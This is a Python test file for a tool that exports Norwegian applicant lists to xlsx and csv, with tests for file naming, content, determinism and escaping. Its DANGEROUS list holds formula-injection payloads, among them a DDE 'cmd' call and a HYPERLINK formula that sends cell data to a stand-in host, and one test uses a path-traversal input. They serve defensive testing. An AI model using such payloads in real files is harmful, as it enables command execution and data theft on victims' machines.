"""Spreadsheets, read back by another library than the one that wrote them (openpyxl, csv)."""

import csv
import io
import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from arkivbro.documents.list_content import MOST_ROWS, ListColumn, ListDocument, ListedRow
from arkivbro.documents.spreadsheets import LONGEST_CELL, csv_file, file_name, xlsx
from tests.unit.documents.sample_lists import EXTENDED, a_list, an_exempt_list, public_rows

MOMENT = datetime(2026, 11, 30, 9, 12, tzinfo=UTC)
DANGEROUS = [
    '=HYPERLINK("http://ond.example/?"&A1,"klikk")',
    "=1+1",
    "+47 900 00 001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
]


def sheet_of(document: ListDocument) -> Any:
    book = openpyxl.load_workbook(io.BytesIO(xlsx(document, MOMENT)))
    assert len(book.worksheets) == 1
    return book.worksheets[0]


def cells_of(document: ListDocument) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet_of(document).iter_rows()]


def csv_of(document: ListDocument) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_file(document).decode("utf-8-sig"), newline=""), delimiter=";"))


def one_cell(text: str) -> ListDocument:
    return a_list((ListedRow((text,)),), columns=(ListColumn("Navn"),), notes=())


# --- whom it is for ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "scope", "name"),
    [
        (a_list(), "Offentlig", "offentlig-sokerliste-3324614190-offentlig"),
        (an_exempt_list(), EXTENDED, "utvidet-sokerliste-3324614190-unntatt-offentlighet"),
        (
            an_exempt_list(kind="Adresseliste", number="2"),
            EXTENDED,
            "adresseliste-3324614190-2-unntatt-offentlighet",
        ),
    ],
)
def test_the_scope_comes_first_and_in_the_file_name(document: ListDocument, scope: str, name: str) -> None:
    assert cells_of(document)[0][0] == scope
    assert csv_of(document)[0] == [scope]
    assert file_name(document, "xlsx") == f"{name}.xlsx"
    assert file_name(document, "csv") == f"{name}.csv"


def test_the_scope_is_on_the_tab_the_printed_page_and_the_properties() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx(an_exempt_list(), MOMENT)))
    (sheet,) = book.worksheets
    assert sheet.title == "Unntatt offentlighet"
    assert sheet.oddHeader.right.text == EXTENDED
    assert book.properties.subject == EXTENDED
    assert sheet_of(a_list()).title == "Offentlig"


@pytest.mark.parametrize("text", ["../../etc/passwd", "a/b\\c", "søk\x00 «er» ?*|", "—", "æøå" * 300])
def test_a_file_name_is_a_plain_name(text: str) -> None:
    name = file_name(a_list(kind=text, reference=text, number=text), "csv")
    assert re.fullmatch(r"[a-z0-9-]+\.csv", name)
    assert len(name) < 160


def test_a_file_name_holds_no_title() -> None:
    assert "hemmelig" not in file_name(an_exempt_list(title="Hemmelig", metadata_title="Hemmelig"), "csv")


# --- what is in it -----------------------------------------------------------------------------------------------


def test_the_whole_list_is_there() -> None:
    rows = cells_of(a_list())
    texts = [row[0] for row in rows]
    assert texts[1:4] == ["Arbeidstilsynet", "Offentlig søkerliste", "Rådgiver – tilsyn – Region vest"]
    assert texts[4:9] == [
        "Referanse: 3324614190",
        "Søknadsfrist: 26. november 2026",
        "Søkere: 3",
        "Kvinner: 2",
        "Menn: 1",
    ]
    header = rows.index(["Nr.", "Navn", "Alder", "Stilling eller tittel", "Kommune", "Kjønn"])
    assert rows[header + 1] == [1, "Brekke1, Kari", 21, "Rådgiver 1, NAV", "Ålesund", "kvinne"]
    assert rows[header + 3] == [3, "Unntatt offentlighet", None, None, None, "mann"]
    assert rows[-1][0] == "Søkere som er unntatt offentlighet, står med kjønn."
    assert [row for row in csv_of(a_list()) if row[:1] == ["1"]] == [
        ["1", "Brekke1, Kari", "21", "Rådgiver 1, NAV", "Ålesund", "kvinne"]
    ]


def test_headings_stay_in_view_can_be_filtered_and_are_printed_on_each_page() -> None:
    sheet = sheet_of(a_list(public_rows(4)))
    header = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Nr.")
    assert sheet.freeze_panes == f"A{header + 1}"
    assert sheet.auto_filter.ref == f"A{header}:F{header + 4}"
    assert sheet.print_title_rows == f"${header}:${header}"


def test_a_postcode_keeps_its_zero_and_a_number_its_text() -> None:
    columns = (ListColumn("Postnr", 0), ListColumn("Alder", 0, numeric=True))
    rows = (ListedRow(("0185", "42")), ListedRow(("0001", "ikke oppgitt")), ListedRow(("7", "007")))
    found = [row[:2] for row in cells_of(a_list(rows, columns=columns, notes=()))][-3:]
    assert found == [["0185", 42], ["0001", "ikke oppgitt"], ["7", "007"]]


def test_lines_within_a_cell_stay() -> None:
    document = one_cell("Bachelor, 2008\nMaster, 2010")
    assert cells_of(document)[-1][0] == "Bachelor, 2008\nMaster, 2010"
    assert csv_of(document)[-1] == ["Bachelor, 2008\nMaster, 2010"]


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    for text in ("å" * 40_000, "😀" * 20_000):
        value = cells_of(one_cell(text))[-1][0]
        assert value.endswith("[teksten er kortet ned her]")
        assert LONGEST_CELL - 40 < len(value.encode("utf-16-le")) / 2 <= LONGEST_CELL


def test_a_list_without_rows_and_one_with_a_thousand() -> None:
    assert "Nr." in [row[0] for row in cells_of(a_list((), summary=()))]
    assert len(cells_of(a_list(public_rows(1000)))) == 1000 + 13


# --- nothing is a formula ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_text_becomes_a_formula(text: str) -> None:
    document = one_cell(text)
    cell = list(sheet_of(document).iter_rows())[-1][0]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    (value,) = csv_of(document)[-1]
    assert value.startswith("'")
    assert not re.match("[=+@-]", value.lstrip("\t\r\n "))


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("field", ["title", "subtitle", "kind", "body_name", "reference", "scope"])
def test_nor_does_any_heading(field: str, text: str) -> None:
    changes: dict[str, Any] = {field: text}
    document = a_list(**changes)
    sheet = sheet_of(document)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert not any(re.match("[\\s]*[=+@-]", cell) for row in csv_of(document) for cell in row)


def test_an_address_of_the_web_is_no_link() -> None:
    sheet = sheet_of(one_cell("https://ond.example/"))
    assert not sheet._hyperlinks
    names = zipfile.ZipFile(io.BytesIO(xlsx(one_cell("https://ond.example/"), MOMENT))).namelist()
    assert not [name for name in names if "_rels/sheet" in name or "external" in name.lower()]


def test_a_semicolon_or_a_quote_does_not_break_out_of_its_cell() -> None:
    text = 'Brekke";"=1+1";\n=2'
    assert csv_of(one_cell(text))[-1] == [text]


@settings(deadline=None, max_examples=80)
@given(st.text(st.characters(), max_size=60))
def test_any_text_at_all(text: str) -> None:
    document = one_cell(text)
    cell = list(sheet_of(document).iter_rows())[-1][0]
    assert cell.data_type in ("s", "n")
    assert cell.value is None or isinstance(cell.value, str)
    assert not any(re.match(r"[=+@\-\t\r]", one) for one in csv_of(document)[-1])


@pytest.mark.parametrize("text", ["Æse Ørjan Åsgård", "محمد", "王小明", "_x0041_ Brekke", "A & B <c> 'd'"])
def test_a_name_comes_back_as_it_was(text: str) -> None:
    assert cells_of(one_cell(text))[-1][0] == text
    assert csv_of(one_cell(text))[-1] == [text]


@pytest.mark.parametrize("text", ["Kari\x00\x07Brekke", "Kari\u202eBrekke", "Kari\ufeffBrekke"])
def test_what_only_controls_is_gone(text: str) -> None:
    assert cells_of(one_cell(text))[-1][0] == "KariBrekke"


def test_half_a_surrogate_pair_and_what_xml_forbids() -> None:
    assert csv_of(one_cell("a\ud83db\uffff"))[-1] == ["a\ufffdb\ufffd"]
    assert cells_of(one_cell("a\ud83db\uffff"))[-1][0] == "a\ufffdb\ufffd"


# --- the same bytes ----------------------------------------------------------------------------------------------


def test_the_same_bytes_in_another_process() -> None:
    program = (
        "import hashlib; from tests.unit.documents.test_spreadsheets import *\n"
        "print(hashlib.sha256(xlsx(a_list(), MOMENT) + csv_file(a_list())).hexdigest())"
    )
    found = {
        subprocess.run(
            [sys.executable, "-c", program],
            env={"PYTHONPATH": "src:.", "PYTHONHASHSEED": seed, "TZ": zone},
            capture_output=True,
            check=True,
            text=True,
            timeout=60,
        ).stdout
        for seed, zone in (("1", "UTC"), ("2", "Asia/Tokyo"))
    }
    assert len(found) == 1
    assert xlsx(a_list(), MOMENT) != xlsx(a_list(), MOMENT.replace(day=1))


def test_a_timestamp_needs_a_time_zone() -> None:
    with pytest.raises(ValueError, match="time zone"):
        xlsx(a_list(), MOMENT.replace(tzinfo=None))


# --- what a list is ----------------------------------------------------------------------------------------------


def test_a_list_refuses_rows_that_do_not_fit_and_never_cuts() -> None:
    with pytest.raises(ValueError, match="each column"):
        a_list((ListedRow(("1",)),))
    with pytest.raises(ValueError, match="5,000"):
        a_list(public_rows(MOST_ROWS + 1))
    with pytest.raises(ValueError, match="columns"):
        a_list((), columns=())
    with pytest.raises(ValueError, match="scope"):
        a_list(scope=" ")


def test_a_narrow_column_with_long_texts_gets_its_share() -> None:
    rows = (ListedRow(("0185",)), ListedRow(("Et postnummer som noen fylte med annet",)))
    column = ListColumn("Postnr", 0)
    assert a_list(rows[:1], columns=(column,)).as_data()["columns"][0]["width"] == 0
    assert a_list(rows, columns=(column,)).as_data()["columns"][0]["width"] == 1
    assert replace(column, width=2).width == 2
